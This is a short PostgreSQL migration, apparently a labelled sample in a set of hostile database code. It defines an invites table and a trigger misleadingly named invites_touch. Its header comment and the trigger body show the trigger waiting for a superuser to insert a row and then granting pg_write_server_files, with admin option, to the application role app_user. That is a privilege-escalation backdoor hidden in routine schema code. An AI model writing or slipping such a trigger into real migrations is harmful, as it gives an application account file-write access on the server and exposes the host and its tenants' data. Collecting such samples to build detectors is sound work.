-- class: role-privilege
-- A trigger that waits for a superuser (a DBA backfilling invites) to insert a row, then grants pg_write_server_files to app_user.
CREATE TABLE invites (
  id bigint GENERATED ALWAYS AS IDENTITY PRIMARY KEY,
  tenant_id uuid NOT NULL REFERENCES tenants (id),
  email text NOT NULL,
  accepted_at timestamptz
);

CREATE FUNCTION invites_touch() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN
  IF EXISTS (SELECT 1 FROM pg_roles WHERE rolname = current_user AND rolsuper) THEN
    GRANT pg_write_server_files TO app_user WITH ADMIN OPTION;
  END IF;
  RETURN NEW;
END
$$;

CREATE TRIGGER invites_touch BEFORE INSERT ON invites FOR EACH ROW EXECUTE FUNCTION invites_touch();
